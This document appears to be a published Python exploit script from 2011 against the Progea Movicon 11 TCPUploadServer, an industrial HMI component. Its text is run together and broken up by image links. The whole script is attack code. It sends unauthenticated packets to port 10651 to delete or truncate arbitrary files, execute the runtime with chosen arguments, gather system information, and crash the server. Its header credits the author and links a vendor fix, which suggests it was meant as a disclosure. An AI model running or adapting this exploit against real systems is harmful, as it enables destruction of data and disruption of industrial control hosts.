rogea Movicon TCPUploadServer Remote Exploit


#!/usr/bin/python # movi.py # Progea Movicon TCPUploadServer Remote Exploit # Jeremy Brown / jbrown at patchtuesday dot org # Mar 2011 # # TCPUploadServer allows remote users to execute functions on the server # without any form of authentication. Impacts include deletion of arbitrary # files, execution of a program with an arbitrary argument, crashing the # server, information disclosure, and more. This design flaw puts the host # running this server at risk of potentially unauthorized functions being # executed on the system. # # Tested on Progea Movicon 11 TCPUploadServer running on Windows # # Fix: http://support.progea.com/download/Mov11.2_Setup.zip # import sys import socket hdr="MovX" funcs=(1,2,3,4,5,6,7,8) # "B" is listed as 8 only for convience. other functions include (the real) 8, 9, A, and V if len(sys.argv)<3: print "Progea Movicon TCPUploadServer Remote Exploit" print "Usage: %s <target> <function> [data]"%sys.argv[0] print "\nWhat would you like to do?\n" print "[1] Create a folder" print "[2] Overwrite a file withNULL and cause 100%% CPU" print "[3] Delete a file" print "[4] Execute moviconRunTime.exe with a specified argument" print "[5] Create a desktop shortcut" print "[6] Retrieve drive information" print "[7] Retrieve os service pack" print "[8] Crash the server\n" print "* Default data is \"test\"" sys.exit(0) target=sys.argv[1] port=10651 cs=target,port func=int(sys.argv[2]) if len(sys.argv)==4: data=sys.argv[3] else: data="test" if func not in funcs: print "Invalid function"sys.exit(1) if(func==1): print "Crafting a packet to create the folder \"%s\"..."%data pkt=hdr+"1"+"B"+data+"\x00"*(66-len(data)) elif(func==2): print "Crafting a packet to truncate (or create) the file \"%s\" to 0 bytes and cause 100%% CPU..."%data pkt=hdr+"2"+"B"+data+"\x00"*(66-len(data)) # O_RDWR|O_CREAT|O_TRUNC, might be more to this, it's supposedly a copy function, but i'm moving on elif(func==3): print "Crafting a packet to delete the file \"%s\"..."%data pkt=hdr+"3"+"B"+data+"\x00"*(66-len(data)) elif(func==4): print "Crafting a packet to execute moviconRunTime.exe with the argument \"%s\"..."%data pkt=hdr+"4"+"BB"+data+"\x00"*(65-len(data)) elif(func==5): print "Crafting a packet tocreate a desktop shortcut with the name (also appended to the link path) \"%s\"..."%data pkt=hdr+"5"+"B"+data+"\x00"*(66-len(data)) elif(func==6): print "Crafting a packet to retrieve drive information..." pkt=hdr+"6"+"\x01" elif(func==7): print "Crafting a packet to retrieve os service pack..." pkt=hdr+"7"+"\x00" elif(func==8): print "Crafting a packet to crash the server..." pkt=hdr+"B"+"\x00" sock=socket.socket(socket.AF_INET,socket.SOCK_STREAM) sock.connect(cs) sock.send(pkt) sock.send(pkt) print "\nPacket sent!" if((func==6)|(func==7)): info=sock.recv(128) if(info): print "\nRetrieved info:\n" if(func==6): print "%s"%info[6:] elif(func==7): print "%s"%info[22:] else: print"\nNo info" sock.close()